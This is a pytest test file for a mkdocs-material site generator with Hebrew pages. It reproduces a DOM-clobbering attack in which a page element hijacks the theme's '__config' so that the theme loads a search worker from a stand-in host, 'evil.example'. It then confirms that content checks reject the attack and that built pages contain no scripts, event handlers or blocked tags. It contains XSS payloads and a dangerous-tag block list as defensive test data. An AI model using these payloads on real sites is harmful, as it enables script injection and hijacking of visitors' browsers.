"""The theme-clobbering attack of issue 5, reproduced without the checks, then shown refused with them.

mkdocs-material reads its configuration (base URL, search worker) from the element with id
`__config`; a content page that gives one of its own elements that id takes it over.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from generator.build import check_content
from generator.errors import ContentError

ATTACK = '{"base": "https://evil.example", "features": [], "search": "https://evil.example/worker.js", "translations": {}}'


def test_without_the_checks_a_page_takes_over_the_themes_configuration(tmp_path: Path, browser):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text(f"# עמוד\n\n{ATTACK}\n{{: #__config }}\n", encoding="utf-8")
    config = {
        "site_name": "t",
        "theme": {"name": "material", "language": "he", "font": False},
        "markdown_extensions": ["attr_list"],
        "plugins": [],
        "use_directory_urls": False,
    }
    (tmp_path / "mkdocs.yml").write_text(yaml.safe_dump(config), encoding="utf-8")
    subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-f", str(tmp_path / "mkdocs.yml")], check=True, cwd=tmp_path)
    page = browser.new_page()
    page.goto((tmp_path / "site" / "index.html").as_uri())
    read = page.evaluate("() => document.querySelector('#__config').textContent")
    page.close()
    assert "evil.example" in read  # the theme would load its base and search worker from there


@pytest.mark.parametrize("line", [f"{ATTACK}\n{{: #__config }}", '<p id="__config">x</p>', '<h2 id="__config">x</h2>'])
def test_with_the_checks_the_same_content_is_refused(sample_copy: Path, line: str):
    page = sample_copy / "pages" / "about.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n{line}\n", encoding="utf-8")
    with pytest.raises(ContentError) as caught:
        check_content(sample_copy)
    assert any(p.path.name == "about.md" and p.field == "body" for p in caught.value.problems)


def test_a_heading_named_like_the_themes_config_gets_an_anchor_of_its_own(sample_copy: Path, tmp_path: Path):
    from bs4 import BeautifulSoup

    from generator.build import build_site

    page = sample_copy / "pages" / "about.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n## __config\n\n__drawer\n---\n", encoding="utf-8")
    build_site(sample_copy, tmp_path / "site")
    html = BeautifulSoup((tmp_path / "site" / "about.html").read_text(encoding="utf-8"), "html.parser")
    assert len(html.select('[id="__config"]')) == 1 and html.select_one("#__config").name == "script"
    assert html.select_one("#h-config").get_text(strip=True).startswith("__config") and html.select_one("#h-drawer")


# --- what does pass: a site built from the most a body may hold contains nothing executable ---

# Everything here is accepted by kb check: the allowed tags and attributes, every allowed kind of
# link, and script-looking text in code, entities and attribute values, where it must stay text.
ALLOWED_BUT_TRICKY = """

## רשימה <b>מודגשת</b> עם <abbr title='x" onmouseover="alert(1)'>ר"ת</abbr>

<div dir="ltr" lang="en" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">Allowed block</div>

<details><summary>עוד</summary>
<p>טקסט <mark>מסומן</mark>, <kbd>Ctrl</kbd> ו-<time datetime="2024-01-01">ינואר</time>.</p></details>

[קישור](https://example.org/?a=1&b="onmouseover="alert(1))
[מייל](mailto:info@example.org) [טלפון](tel:+972-4-1234567) <https://example.org/auto>
<a href="HTTPS://EXAMPLE.ORG/x" title="t">upper case scheme</a>

```html
<script>alert("in a code block")</script>
<a href="javascript:alert(1)" onclick="x()">x</a>
<img src=x onerror=alert(1)>
```

בתוך שורה: `<img src=x onerror=alert(1)>` וגם &lt;script&gt;alert(1)&lt;/script&gt; כטקסט.

!!! tip "הערה"
    פסקה בתוך תיבה, עם <abbr title="x">קיצור</abbr>.

| טבלה | <em>עם תגית</em> |
|---|---|
| `<iframe src=//evil.example>` | javascript&#58;alert(1) |
"""

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "background", "xlink:href", "ping")
NEVER = (
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "template",
    "foreignObject",
    "math",
    "portal",
)


def _scripts_and_forms(site: Path) -> tuple[set, set]:
    from bs4 import BeautifulSoup

    scripts, forms = set(), set()
    for page in site.rglob("*.html"):
        html = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        scripts |= {(s.get("src"), s.get("type"), s.get_text()) for s in html.find_all("script")}
        forms |= {" ".join(f.get("class", [])) for f in html.find_all("form")}
    return scripts, forms


def test_a_site_built_from_the_most_a_body_may_hold_contains_nothing_executable(
    sample_copy: Path, sample_site: Path, tmp_path: Path
):
    from bs4 import BeautifulSoup

    from generator.build import build_site

    page = sample_copy / "initiatives" / "karmiel-families-model.md"
    page.write_text(page.read_text(encoding="utf-8") + ALLOWED_BUT_TRICKY, encoding="utf-8")
    check_content(sample_copy)  # all of it is accepted, so all of it reaches the site
    site = tmp_path / "site"
    build_site(sample_copy, site)
    article = BeautifulSoup((site / "initiatives/karmiel-families-model.html").read_text(encoding="utf-8"), "html.parser")
    assert article.find("details") and article.find("abbr") and article.find("div", class_="admonition tip")

    # The pages of the clean sample are the theme's and ours: a script or form the hostile site has
    # beyond those came from the content.
    known_scripts, known_forms = _scripts_and_forms(sample_site)
    for path in sorted(site.rglob("*.html")):
        html = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        where = path.relative_to(site)
        for script in html.find_all("script"):
            assert (script.get("src"), script.get("type"), script.get_text()) in known_scripts, f"{where}: {script}"
        for form in html.find_all("form"):
            assert " ".join(form.get("class", [])) in known_forms, f"{where}: {form}"
        assert not html.find_all(NEVER), f"{where}: {html.find_all(NEVER)}"
        assert len(html.select('[id="__config"]')) <= 1, where
        for element in html.find_all(True):
            for name, value in element.attrs.items():
                assert not name.lower().startswith("on"), f"{where}: <{element.name} {name}>"
                assert name.lower() != "style", f"{where}: <{element.name} style>"
                if name.lower() in URL_ATTRIBUTES:
                    scheme = re.match(r"\s*([A-Za-z][A-Za-z0-9+.-]*):", value if isinstance(value, str) else "")
                    assert not scheme or scheme[1].lower() in ("http", "https", "mailto", "tel"), f"{where}: {name}={value}"
        # The only <meta http-equiv> is the site's policy (a refresh could redirect).
        equiv = [meta["http-equiv"] for meta in html.find_all("meta", attrs={"http-equiv": True})]
        assert equiv == ["Content-Security-Policy"], f"{where}: {equiv}"
    text = article.find("article").get_text()
    assert '<script>alert("in a code block")</script>' in text  # shown as text, as written
    assert "<img src=x onerror=alert(1)>" in text
